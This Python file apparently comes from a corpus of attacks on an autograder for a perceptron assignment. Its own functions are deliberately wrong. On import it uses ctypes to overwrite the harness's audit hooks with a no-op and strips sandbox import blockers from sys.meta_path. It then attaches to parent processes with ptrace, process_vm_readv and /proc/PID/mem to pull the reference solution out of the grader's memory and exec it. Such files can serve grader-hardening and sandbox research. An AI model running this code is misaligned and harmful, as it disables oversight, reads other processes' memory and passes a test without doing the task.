"""Perceptrons read out of the grader's memory, with the audit hook switched off (ctypes).

The grader copied reference/perceptron.py into the reference's sandbox: its bytes may still sit in the
grader's heap. This case attaches to each ancestor with ptrace, reads /proc/PID/mem through
/proc/PID/maps and tries process_vm_readv, looking for the solution's source. Its own functions are
wrong: a perceptron point means it read another process's memory.
"""

import gc
import glob
import os
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=procmode_grader_memory"
NAMES = ("predict", "and_gate", "or_gate", "train_perceptron", "xor_network")
LOG = []  # what worked, printed for the instructor's student_output.txt


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids



def _use(source, where):
    """The perceptron functions of a borrowed solution's source (LOG says where it came from)."""
    LOG.append(f"got the solution from {where}")
    namespace = {"__name__": "borrowed"}
    exec(compile(source, "borrowed_perceptron.py", "exec"), namespace)
    return {n: namespace[n] for n in NAMES if n in namespace}


def _disarm():
    try:
        LOG.append(f"disarmed {_disarm_audit_hooks()} audit hook(s)")
    except Exception as exc:
        LOG.append(f"disarm: {type(exc).__name__}: {exc}")

import ctypes

NEEDLE = b"def train_perceptron(X, y"
ENOUGH = 256 << 20  # bytes of memory read at most


def _search(data):
    """The solution's source around NEEDLE in data, or None."""
    at = data.find(NEEDLE)
    while at >= 0:
        begin = data.rfind(b'"""Perceptrons', max(0, at - 8000), at)
        chunk = data[begin if begin >= 0 else at:at + 8000].split(b"\0")[0].decode("utf-8", "replace")
        if "BEGIN " + "SOLUTION" in chunk or ("def xor_network" in chunk and "np.zeros(np.shape(X)[1]), 0.0, True" not in chunk):
            return chunk
        at = data.find(NEEDLE, at + 1)
    return None


def _read_mem(pid):
    """Search the process's readable mappings through /proc/PID/mem."""
    budget = ENOUGH
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            lo, hi = (int(x, 16) for x in span.split("-"))
            size = min(hi - lo, budget)
            if size <= 0:
                break
            try:
                mem.seek(lo)
                data = mem.read(size)
            except OSError:
                continue
            budget -= size
            found = _search(data)
            if found:
                return found
    return None


def _ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return "attached"


def _vm_read(pid):
    libc = ctypes.CDLL(None, use_errno=True)

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(4096)
    local, remote = IoVec(ctypes.addressof(buf), 4096), IoVec(0x400000, 4096)
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"read {got} bytes"


def _attack():
    _disarm()
    found = None
    for pid in _ancestors():
        for route in (_ptrace, _vm_read, _read_mem):
            try:
                got = route(pid)
                LOG.append(f"{route.__name__}({pid}): {'found the solution' if route is _read_mem and got else 'worked'}")
                if route is _read_mem and got:
                    found = found or (got, f"/proc/{pid}/mem")
            except Exception as exc:
                LOG.append(f"{route.__name__}({pid}): {type(exc).__name__}: {str(exc)[:80]}")
    print(f"{TAG}: " + "; ".join(LOG), flush=True)
    return _use(*found) if found else {}


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}

_borrowed = _attack()
globals().update(_borrowed)
